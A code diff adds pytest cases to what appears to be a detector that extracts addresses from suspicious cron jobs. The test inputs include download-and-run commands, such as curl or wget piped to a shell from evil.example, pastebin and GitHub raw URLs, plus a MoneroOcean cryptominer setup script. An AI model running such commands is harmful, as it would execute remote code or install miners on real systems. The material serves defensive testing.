@@ -193,6 +193,24 @@ def test_things_are_read_by_kind() -> None:
     assert things("cron_hidden_home_program", program_path="/home/kim/.local/bin/x") == {("file", "/home/kim/.local/bin/x")}
 
 
+@pytest.mark.parametrize(
+    ("command", "address"),
+    [
+        ("curl -s https://raw.githubusercontent.com/zz91/aa/main/run.sh | sh", "raw.githubusercontent.com/zz91/aa/main/run.sh"),
+        ("wget -qO- 'https://pastebin.com/raw/Ab12Cd34'", "pastebin.com/raw/Ab12Cd34"),
+        ("curl https://evil.example/aa/run.sh | sh", "evil.example"),
+        # What everybody fetches there.
+        ("curl -L https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz", None),
+        ("curl https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash", None),
+        ("curl https://get.docker.com | sh", None),
+        ("curl -s ifconfig.me; curl https://ipinfo.io", None),
+    ],
+)
+def test_a_site_that_everybody_uses_is_told_by_what_lies_there(command: str, address: str | None) -> None:
+    told_there = {value for kind, value in things("cron_download_and_run", command=command) if kind == "address"}
+    assert told_there == ({address} if address else set())
+
+
 @pytest.mark.parametrize("text", ["/a" * 500_000, "http://" * 200_000, "x://y" * 200_000, "/dev/tcp/" * 100_000, " " * 1_000_000])
 def test_what_an_attacker_writes_is_read_in_bounded_time(text: str) -> None:
     row = {"command": text, "pid": text, "path": text, "program_path": text, "pool": text, "cmdline": text}
